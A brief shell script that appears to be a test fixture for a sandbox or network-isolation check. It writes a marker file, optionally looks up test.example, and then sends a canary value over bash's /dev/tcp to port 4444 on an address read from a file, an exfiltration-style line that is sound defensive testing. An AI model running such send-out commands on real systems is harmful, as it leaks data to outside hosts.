#!/bin/sh
: > "$ARENA/ws/ran2"
[ "$CASE" = not-looked-up ] || getent hosts test.example
timeout 1 bash -c 'echo "$CANARY" > "/dev/tcp/$(cat address)/4444"'
